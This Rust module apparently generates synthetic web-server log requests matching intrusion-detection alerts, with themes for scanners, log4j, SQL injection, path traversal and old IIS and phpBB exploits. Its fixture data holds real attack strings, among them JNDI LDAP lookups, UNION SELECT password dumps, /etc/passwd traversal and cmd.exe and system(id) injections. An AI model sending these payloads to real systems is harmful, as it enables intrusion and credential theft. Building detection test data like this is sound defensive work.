//! The request in a web server's log beside an alert: one that the rule would fire on.
//!
//! The theme of a request follows from the rule's name.

use super::flow::AccessSlot;
use crate::random::{Draws, choose};

/// A request's method and path, the answer's status, and the client's `User-Agent`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Request {
    pub(super) method: &'static str,
    pub(super) path: &'static str,
    pub(super) status: u16,
    pub(super) agent: &'static str,
}

/// Requests of one kind. `{client}` in a path or an agent is the client's address.
struct Theme {
    /// A rule fits if its name in lower case contains one of these.
    keywords: &'static [&'static str],
    requests: &'static [(&'static str, &'static str)],
    statuses: &'static [u16],
    agents: &'static [&'static str],
}

/// User agents of people and of machines.
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "-",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
];
/// Requests to a published site by people, machines and scanners.
const ORDINARY: &[(&str, &str)] = &[
    ("GET", "/"),
    ("GET", "/index.php"),
    ("GET", "/robots.txt"),
    ("GET", "/favicon.ico"),
    ("GET", "/products.php?id=17"),
    ("GET", "/search.php?q=valve"),
    ("GET", "/assets/app.css"),
    ("POST", "/login.php"),
    ("POST", "/api/auth.php"),
    ("GET", "/wp-login.php"),
    ("GET", "/phpmyadmin/index.php"),
    ("GET", "/cgi-bin/status"),
    ("HEAD", "/"),
];

/// A rule has the first theme that fits; the last fits any rule.
const THEMES: &[Theme] = &[
    Theme {
        keywords: &["nmap"],
        requests: &[
            ("GET", "/"),
            ("OPTIONS", "/"),
            ("PROPFIND", "/"),
            ("POST", "/sdk"),
            ("GET", "/HNAP1"),
            ("GET", "/evox/about"),
            ("GET", "/.git/HEAD"),
            ("GET", "/robots.txt"),
            ("GET", "/favicon.ico"),
            ("HEAD", "/manager/html"),
        ],
        statuses: &[200, 200, 403, 404, 404, 405],
        agents: &[
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ],
    },
    Theme {
        keywords: &["nikto"],
        requests: &[
            ("GET", "/cgi-bin/test-cgi"),
            ("GET", "/admin/config.php"),
            ("GET", "/backup.tar.gz"),
            ("GET", "/server-status"),
            ("GET", "/phpinfo.php"),
            ("TRACE", "/"),
        ],
        statuses: &[200, 403, 404, 404, 404, 405],
        agents: &[
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000138)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001234)",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:006544)",
        ],
    },
    Theme {
        keywords: &["log4j", "jndi"],
        requests: &[
            ("GET", "/?x=${jndi:ldap://{client}:1389/a}"),
            (
                "GET",
                "/search.php?q=%24%7Bjndi%3Aldap%3A%2F%2F{client}%3A1389%2Fo%7D",
            ),
            ("GET", "/"),
        ],
        statuses: &[200, 200, 400, 404],
        agents: &[
            "${jndi:ldap://{client}:1389/Basic}",
            "${${lower:j}ndi:ldap://{client}:1389/o}",
        ],
    },
    Theme {
        keywords: &[
            "sql injection",
            "sqli ",
            "sql errors",
            "select ",
            "union ",
            "information schema",
            "insert into",
        ],
        requests: &[
            ("GET", "/products.php?id=17%27%20OR%20%271%27=%271"),
            ("GET", "/item.php?id=4%20AND%205127=5127"),
            (
                "GET",
                "/search.php?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
            ),
            (
                "GET",
                "/list.php?cat=2%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20information_schema.tables--%20-",
            ),
            ("POST", "/login.php"),
        ],
        statuses: &[200, 200, 302, 403, 500, 500],
        agents: &[
            "sqlmap/1.8.4#stable (https://sqlmap.org)",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            BROWSERS[0],
            BROWSERS[1],
        ],
    },
    Theme {
        keywords: &["/etc/passwd", "traversal", "/etc/shadow"],
        requests: &[
            ("GET", "/download.php?file=../../../../etc/passwd"),
            ("GET", "/index.php?page=..%2f..%2f..%2f..%2fetc%2fpasswd"),
            ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
        ],
        statuses: &[200, 400, 403, 404],
        agents: &["curl/7.88.1", "python-requests/2.31.0", BROWSERS[1]],
    },
    Theme {
        keywords: &["cmd.exe", "system32", "/winnt"],
        requests: &[
            ("GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"),
            (
                "GET",
                "/_vti_bin/..%255c..%255c../winnt/system32/cmd.exe?/c+dir+c:%5c",
            ),
            ("GET", "/msadc/..%c0%af../winnt/system32/cmd.exe?/c+ver"),
        ],
        statuses: &[400, 404, 404],
        agents: &["-", "python-requests/2.31.0"],
    },
    Theme {
        keywords: &[".htaccess", ".htpasswd", ".cnf", ".env", "403 forbidden"],
        requests: &[
            ("GET", "/.htaccess"),
            ("GET", "/.htpasswd"),
            ("GET", "/.my.cnf"),
            ("GET", "/admin/.htaccess"),
            ("GET", "/etc/my.cnf"),
        ],
        statuses: &[403, 403, 403, 404],
        agents: &["curl/7.88.1", "Go-http-client/1.1", BROWSERS[1]],
    },
    Theme {
        keywords: &["covenant"],
        requests: &[
            ("GET", "/en-us/index.html?page=1&v=1"),
            ("GET", "/en-us/docs.html?type=2&v=1"),
            ("POST", "/en-us/test.html?message=3&v=1"),
            ("POST", "/en-us/docs.html?type=1&v=1"),
        ],
        statuses: &[200, 200, 200, 404],
        agents: &[
            "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
        ],
    },
    Theme {
        keywords: &["phpbb"],
        requests: &[
            ("GET", "/phpBB2/viewtopic.php?t=4&highlight=%2527"),
            (
                "GET",
                "/forum/viewtopic.php?t=12&highlight=%2527%252esystem%28id%29%252e%2527",
            ),
        ],
        statuses: &[200, 404, 404],
        agents: &["LWP::Simple/6.00", "libwww-perl/6.05", BROWSERS[0]],
    },
    Theme {
        keywords: &["shellcode", "heap spray", "nop sled", "unescape"],
        requests: &[
            ("GET", "/ads/banner.html"),
            ("GET", "/news/view.php?id=8"),
            ("GET", "/js/jquery.min.js"),
            ("POST", "/upload.php"),
        ],
        statuses: &[200, 200, 304],
        agents: BROWSERS,
    },
    Theme {
        keywords: &[
            "dotted quad",
            "dotted-quad",
            "executable download",
            "mz response",
            "exe download",
            "pe exe",
        ],
        requests: &[
            ("GET", "/files/setup.exe"),
            ("GET", "/files/update.zip"),
            ("GET", "/share/invoice.doc"),
            ("GET", "/tools/agent.exe"),
        ],
        statuses: &[200, 200, 206, 304],
        agents: &[BROWSERS[0], BROWSERS[2], "curl/7.88.1", "Wget/1.21.3"],
    },
    Theme {
        keywords: &["windows nt version", "unsupported/fake", "fake windows"],
        requests: ORDINARY,
        statuses: &[200, 200, 304, 404],
        agents: &[
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0)",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 9.0; en-US)",
        ],
    },
    Theme {
        keywords: &["java version", "java/1."],
        requests: &[
            ("GET", "/updates/version.xml"),
            ("GET", "/app/launch.jnlp"),
            ("GET", "/app/client.jar"),
        ],
        statuses: &[200, 200, 304],
        agents: &["Java/1.8.0_202", "Java/1.8.0_151"],
    },
    Theme {
        keywords: &["http post", "base64 encoded"],
        requests: &[
            ("POST", "/api/upload.php"),
            ("POST", "/gate.php"),
            ("POST", "/index.php"),
        ],
        statuses: &[200, 200, 302, 404],
        agents: &[BROWSERS[0], "python-requests/2.31.0", "-"],
    },
    Theme {
        keywords: &["python"],
        requests: ORDINARY,
        statuses: &[200, 200, 302, 404],
        agents: &[
            "python-requests/2.31.0",
            "python-requests/2.28.1",
            "Python-urllib/3.10",
        ],
    },
    Theme {
        keywords: &["curl"],
        requests: ORDINARY,
        statuses: &[200, 200, 302, 404],
        agents: &["curl/7.88.1", "curl/8.5.0", "curl/7.81.0"],
    },
    Theme {
        keywords: &["scan", "web_specific_apps", "web_server"],
        requests: &[
            ("GET", "/.env"),
            ("GET", "/.git/config"),
            ("GET", "/wp-login.php"),
            ("GET", "/phpmyadmin/index.php"),
            ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            ("GET", "/boaform/admin/formLogin"),
            ("GET", "/cgi-bin/status"),
            ("HEAD", "/"),
        ],
        statuses: &[200, 301, 403, 404, 404, 404],
        agents: &[
            BROWSERS[1],
            "python-requests/2.31.0",
            "Go-http-client/1.1",
            "curl/7.88.1",
            "-",
        ],
    },
    Theme {
        keywords: &[""],
        requests: ORDINARY,
        statuses: &[200, 200, 200, 301, 302, 403, 404, 404],
        agents: AGENTS,
    },
];

/// The theme of a rule, by its name.
pub(super) fn theme(signature: &str) -> u8 {
    let signature = signature.to_lowercase();
    let fits = |theme: &Theme| theme.keywords.iter().any(|k| signature.contains(k));
    THEMES.iter().position(fits).unwrap_or(THEMES.len() - 1) as u8
}

/// A request of a theme.
pub(super) fn request(theme: u8, draws: Draws<AccessSlot>) -> Request {
    let theme = &THEMES[usize::from(theme).min(THEMES.len() - 1)];
    let &(method, path) = choose(theme.requests, draws.bits(AccessSlot::Request));
    Request {
        method,
        path,
        status: *choose(theme.statuses, draws.bits(AccessSlot::Status)),
        agent: choose::<&str>(theme.agents, draws.bits(AccessSlot::Agent)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::random::Key;

    #[test]
    fn a_request_is_what_the_rule_fires_on() {
        let of = |signature: &str| {
            let theme = theme(signature);
            (0..64).map(move |i| request(theme, Draws::new(Key::root(i))))
        };
        assert!(of("ET SCAN Possible Nmap User-Agent Observed").all(|r| r.agent.contains("Nmap")));
        assert!(of("ET SCAN Nikto Web App Scan in Progress").all(|r| r.agent.contains("Nikto")));
        assert!(of("ET WEB_SERVER /etc/passwd Detected in URI").all(|r| r.path.contains("passwd")));
        assert!(
            of("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)")
                .all(|r| r.agent.contains("ndi:ldap"))
        );
        assert!(of("GPL WEB_SERVER 403 Forbidden").any(|r| r.status == 403));
        let ordinary = theme("SURICATA STREAM reassembly overlap");
        assert_eq!(usize::from(ordinary), THEMES.len() - 1);
    }

    #[test]
    fn every_theme_has_requests_and_only_the_last_fits_all() {
        for (i, theme) in THEMES.iter().enumerate() {
            assert!(!theme.requests.is_empty() && !theme.statuses.is_empty());
            assert!(!theme.agents.is_empty());
            assert_eq!(theme.keywords.contains(&""), i + 1 == THEMES.len());
        }
    }
}
